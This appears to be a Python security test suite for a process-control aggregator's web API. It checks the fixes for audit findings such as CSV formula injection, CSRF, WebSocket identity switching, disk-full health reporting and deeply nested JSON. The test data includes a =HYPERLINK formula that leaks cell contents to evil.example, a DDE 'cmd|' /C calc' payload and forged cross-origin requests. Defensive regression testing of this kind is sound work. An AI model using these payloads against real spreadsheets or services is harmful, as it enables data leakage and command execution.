"""Attacks through the web surface of a real aggregator process: raw HTTP (httpx) and raw
WebSockets (trio-websocket), a real engine where a unit must act, a raw engine where a test needs
to say what a unit reports.

Invariants shown: what cannot be stored is refused (422) before any unit acts on it; an export's
cells never start a spreadsheet formula; a page of another site cannot act; a socket's deltas
follow the identity signed in on it; live subscribers are served, not dropped, while engines
run; /health says when the store cannot be written; a body that nests too deeply is a 400 with
the reason.
"""

from __future__ import annotations

import csv
import io
import json
import resource
import shutil
import signal
import subprocess
from pathlib import Path

import trio
from trio_websocket import ConnectionClosed, open_websocket_url

from attack_harness import (PYTHON, Fleet, RawEngine, live_messages, method_lines, online, patiently, record,
                            run_ids, samples_data, uod_data)
from conftest import DEMO_UOD
from oidc_provider import OidcProvider
from pectus.actors.ui_hub import STALL

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")'


def test_a_method_with_a_lone_surrogate_is_refused_before_the_engine_applies_it(tmp_path):
    """Finding 7. Without the fix: 500, but the engine applied the method; no audit record, and
    its method record can never be stored (the unit is cut off from the store for good)."""
    async def main():
        with Fleet(tmp_path) as fleet:
            async with fleet.a_unit_online() as (aggregator, engine, api):
                unit = f"/api/process_units/{engine.unit}"
                before = (await api.get(f"{unit}/method")).json()
                body = '{"lines": [{"id": "1", "text": "Mark: \\ud800"}], "version": %d}' % before["version"]
                refused = await api.post(f"{unit}/method", content=body.encode(),
                                         headers={"Content-Type": "application/json"})
                assert refused.status_code == 422, refused.text
                assert (await api.get(f"{unit}/method")).json() == before

                # The engine still has the version the API shows: a save on it is taken, and stored.
                saved = await api.post(f"{unit}/method", json={"lines": method_lines("Mark: fine"),
                                                               "version": before["version"]})
                assert saved.status_code == 200, saved.text
                await patiently(lambda: _method_text(api, unit, "Mark: fine"))
                assert (await api.get("/health")).status_code == 200
            aggregator.stop()
            verified = subprocess.run([PYTHON, "-m", "pectus.cli.aggregator", "--data-dir", str(aggregator.data),
                                       "verify"], capture_output=True, text=True, timeout=60)
            assert verified.returncode == 0, verified.stderr
            assert "\\ud800" not in aggregator.store.read_bytes().decode("utf-8", "replace")

    trio.run(main)


async def _method_text(api, unit: str, text: str) -> bool:
    return [line["text"] for line in (await api.get(f"{unit}/method")).json()["lines"]] == [text]


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_escaped(tmp_path):
    """Finding 10 (CSV). Without the fix: the cells are written raw, =HYPERLINK(...) and all."""
    hostile = {"Note": FORMULA, "@cmd": "+1+cmd|' /C calc'!A0", "Comment": "-2+3", "At": "@SUM(A1:A9)",
               "Flow": -1.5}

    async def main():
        with Fleet(tmp_path) as fleet:
            aggregator = fleet.aggregator()
            await aggregator.serving()
            rogue = RawEngine(aggregator.port)
            tags = [(name, None) for name in hostile]
            ack = await rogue.send([record("uod", uod_data(tags)), record("run_started", {}, run="r-csv"),
                                    record("samples", samples_data(hostile), run="r-csv")])
            assert ack["refused"] == []
            async with aggregator.api() as api:
                exported = await api.get("/api/runs/r-csv/csv")
            assert exported.status_code == 200
            return list(csv.reader(io.StringIO(exported.text)))

    rows = trio.run(main)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and "'@cmd" in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
    assert "-1.5" in cells  # a number stays a number
    evaluated = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
    assert evaluated == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_cross_site_request_cannot_start_a_unit(tmp_path):
    """Finding 10 (CSRF). Without the fix: with sign-in off, a text/plain POST from a page of
    another site starts (and stops) the unit."""
    async def main():
        with Fleet(tmp_path) as fleet:
            async with fleet.a_unit_online() as (aggregator, engine, api):
                control = f"/api/process_units/{engine.unit}/control"
                start = json.dumps({"command": "Start"})
                evil = "http://evil.example"
                for content_type, origin in (("text/plain", evil), ("application/x-www-form-urlencoded", evil),
                                             ("text/plain", None), ("application/json", evil)):
                    headers = {"Content-Type": content_type} | ({"Origin": origin} if origin else {})
                    async with aggregator.api() as browser:  # the other site's page, on a connection of its own
                        forged = await browser.post(control, content=start, headers=headers)
                    assert 400 <= forged.status_code < 500, (content_type, origin, forged.status_code)
                    assert (await _unit(api, engine.unit))["run_state"] == "ready"
                assert await run_ids(api, engine.unit) == []

                # The aggregator's own page may act: the refusals were for the other site.
                own = await api.post(control, content=start, headers={"Content-Type": "application/json",
                                                                      "Origin": aggregator.url})
                assert own.status_code == 200, own.text
                await patiently(lambda: _running(api, engine.unit))

    trio.run(main)


async def _unit(api, unit: str) -> dict:
    return (await api.get(f"/api/process_units/{unit}")).json()


async def _running(api, unit: str) -> bool:
    return (await _unit(api, unit))["run_state"] == "running"


def test_a_live_socket_that_switches_identity_stops_receiving_a_unit_it_may_not_see(tmp_path):
    """Finding 10 (identity switch). Without the fix: after Bob's token replaces Alice's on the
    socket, the Operator-only unit's deltas keep coming."""
    async def main(provider: OidcProvider):
        env = {"ENABLE_AZURE_AUTHENTICATION": "True", "AZURE_DIRECTORY_TENANT_ID": provider.tenant,
               "AZURE_APPLICATION_CLIENT_ID": provider.client_id, "PECTUS_OIDC_AUTHORITY": provider.issuer}
        with Fleet(tmp_path) as fleet:
            aggregator = fleet.aggregator(env=env)
            await aggregator.serving()
            guarded, public = RawEngine(aggregator.port, "ops_Unit"), RawEngine(aggregator.port, "open_Unit")
            await guarded.send([record("uod", uod_data(roles=["Operator"])), record("run_started", {}, run="r-ops")])
            await public.send([record("uod", uod_data()), record("run_started", {}, run="r-open")])

            async with open_websocket_url(f"ws://127.0.0.1:{aggregator.port}/api/ws") as ws:
                async def until(found) -> list[dict]:
                    """The messages up to and including the first for which ``found`` is true."""
                    seen: list[dict] = []
                    with trio.fail_after(10):
                        while not any(found(message) for message in seen):
                            seen.extend(live_messages(await ws.get_message()))
                    return seen[:next(n for n, message in enumerate(seen, 1) if found(message))]

                alice = provider.mint()  # holds Operator
                await ws.send_message(json.dumps({"identity": alice, "subscribe": ["ops_Unit", "open_Unit"]}))
                assert (await until(lambda m: "subscribed" in m))[-1] == {"subscribed": ["open_Unit", "ops_Unit"]}
                await guarded.send([_error("for Alice", "r-ops")])
                await until(lambda m: "for Alice" in json.dumps(m))

                bob = provider.mint(oid="oid-bob", sub="sub-bob", name="Bob Jones", roles=[])
                await ws.send_message(json.dumps({"identity": bob}))
                switched = (await until(lambda m: "subscribed" in m))[-1]
                assert switched == {"subscribed": ["open_Unit"], "dropped": {"ops_Unit": ["Operator"]}}
                await guarded.send([_error("not for Bob", "r-ops")])
                await public.send([_error("for everyone", "r-open")])  # after the one Bob may not see
                seen = await until(lambda m: "for everyone" in json.dumps(m))
                assert not [m for m in seen if m.get("unit") == "ops_Unit" or "not for Bob" in json.dumps(m)], seen

    with OidcProvider() as provider:
        trio.run(main, provider)


def _error(message: str, run: str) -> dict:
    return record("error", {"severity": "error", "message": message, "line": None}, run=run)


SUBSCRIBERS = 200
WINDOW = STALL + 8  # longer than a subscription may stall before the aggregator closes it (1013)


def test_200_live_subscribers_on_3_running_engines_all_stay_open(tmp_path):
    """Finding 10 (fan-out). Without the fix: the aggregator saturates a core encoding every delta
    for every subscriber, and all 200 sockets are closed with 1013 after ~46 s."""
    async def main():
        with Fleet(tmp_path) as fleet:
            aggregator = fleet.aggregator()
            engines = [fleet.engine(aggregator, f"engine{n}", uod=_demo_uod(tmp_path, f"DemoUod{n}"),
                                    instrument=f"DemoUod{n}") for n in range(3)]
            units = [engine.unit for engine in engines]
            await aggregator.serving()
            async with aggregator.api() as api:
                for unit in units:
                    await patiently(lambda: online(api, unit))
                    started = await api.post(f"/api/process_units/{unit}/control", json={"command": "Start"})
                    assert started.status_code == 200, started.text

            received = [0] * SUBSCRIBERS
            closed: dict[int, str] = {}
            subscribed = trio.Semaphore(0)

            async def subscriber(number: int) -> None:
                try:
                    async with open_websocket_url(f"ws://127.0.0.1:{aggregator.port}/api/ws") as ws:
                        await ws.send_message(json.dumps({"subscribe": units}))
                        while "subscribed" not in await ws.get_message():
                            pass
                        subscribed.release()
                        while True:
                            await ws.get_message()
                            received[number] += 1
                except ConnectionClosed as error:
                    closed[number] = str(error.reason)

            async with trio.open_nursery() as nursery:
                for number in range(SUBSCRIBERS):
                    nursery.start_soon(subscriber, number)
                with trio.fail_after(60):
                    for _ in range(SUBSCRIBERS):
                        await subscribed.acquire()
                # The observation window: the engines run, every subscriber reads.
                with trio.move_on_after(WINDOW - 8):
                    while not closed:
                        await trio.sleep(1)
                before = list(received)
                with trio.move_on_after(8):
                    while not closed:
                        await trio.sleep(1)
                nursery.cancel_scope.cancel()
            assert closed == {}
            assert all(after > then for after, then in zip(received, before))  # deltas still flow to each
            assert all(engine.running for engine in engines) and aggregator.running

    trio.run(main)


def _demo_uod(directory: Path, instrument: str) -> Path:
    """The demo UOD under another instrument name: another engine id on this machine."""
    path = directory / f"{instrument.lower()}.py"
    path.write_text(DEMO_UOD.read_text().replace('.with_instrument("DemoUod")', f'.with_instrument("{instrument}")'))
    shutil.copy(DEMO_UOD.with_name("demo_diagram.svg"), directory)  # its process diagram, beside it
    return path


def _survive_a_full_disk() -> None:
    """In the aggregator's process before it starts: a write over the file size limit fails
    (EFBIG, as ENOSPC on a full disk) instead of killing the process with SIGXFSZ."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


def test_health_says_503_with_the_reason_when_the_store_cannot_be_written(tmp_path):
    """Finding 10 (health). Without the fix: /health answers ok while every append fails."""
    async def main():
        with Fleet(tmp_path) as fleet:
            aggregator = fleet.aggregator(preexec=_survive_a_full_disk)
            await aggregator.serving()
            async with aggregator.api() as api:
                rogue = RawEngine(aggregator.port)
                await rogue.send([record("uod", uod_data()), record("run_started", {}, run="r1")])
                assert (await api.get("/health")).status_code == 200
                # The disk is full from now on: the aggregator's process can write no byte to a file.
                resource.prlimit(aggregator.popen.pid, resource.RLIMIT_FSIZE, (0, 0))
                async with rogue.session() as session:
                    if session.answer is not None and session.answer["type"] == "welcome":
                        await session.send_records([record("samples", samples_data({"FT01": 1.0}), run="r1")])
                health = await patiently(lambda: _failing(api))
                assert health.json()["status"] == "failing" and health.json()["problem"], health.text
                assert (await api.get("/health")).status_code == 503  # and it stays so while writes fail
                assert aggregator.running

    trio.run(main)


async def _failing(api):
    response = await api.get("/health")
    return response if response.status_code == 503 else None


def test_a_deeply_nested_body_answers_400_with_the_reason(tmp_path):
    """Finding 10 (nesting, web side). Without the fix: RecursionError out of the decoder, a 500."""
    deep = 100_000

    async def main():
        with Fleet(tmp_path) as fleet:
            aggregator = fleet.aggregator()
            await aggregator.serving()
            await RawEngine(aggregator.port).send([record("uod", uod_data())])
            async with aggregator.api() as api:
                for path, body in (("/api/process_units/rogue_Unit/method",
                                    '{"lines": ' + "[" * deep + "]" * deep + ', "version": 0}'),
                                   ("/api/process_units/rogue_Unit/control", '{"command": ' + '{"a": ' * deep
                                    + "1" + "}" * deep + "}")):
                    answer = await api.post(path, content=body, headers={"Content-Type": "application/json"})
                    assert answer.status_code == 400, (path, answer.status_code, answer.text[:300])
                    assert "nest" in answer.json()["error"]["message"]
                assert (await api.get("/health")).status_code == 200

    trio.run(main)


def test_a_refused_request_leaves_its_connection_usable(tmp_path):
    """Found by this suite (not in the issue): a POST refused before its body was read (403 from
    another site, 415 not JSON) left the body on a kept-alive connection, and the client's next
    request on it hung."""
    async def main():
        with Fleet(tmp_path) as fleet:
            aggregator = fleet.aggregator()
            await aggregator.serving()
            await RawEngine(aggregator.port).send([record("uod", uod_data())])
            body = json.dumps({"command": "Start", "padding": "x" * 100_000})
            async with aggregator.api() as api:
                for headers in ({"Content-Type": "text/plain", "Origin": "http://evil.example"},
                                {"Content-Type": "text/plain"}, {"Content-Type": "application/json",
                                                                 "Origin": "http://evil.example"}):
                    refused = await api.post("/api/process_units/rogue_Unit/control", content=body, headers=headers)
                    assert refused.status_code in (403, 415)
                    with trio.fail_after(5):
                        assert (await api.get("/health")).status_code == 200, headers

    trio.run(main)
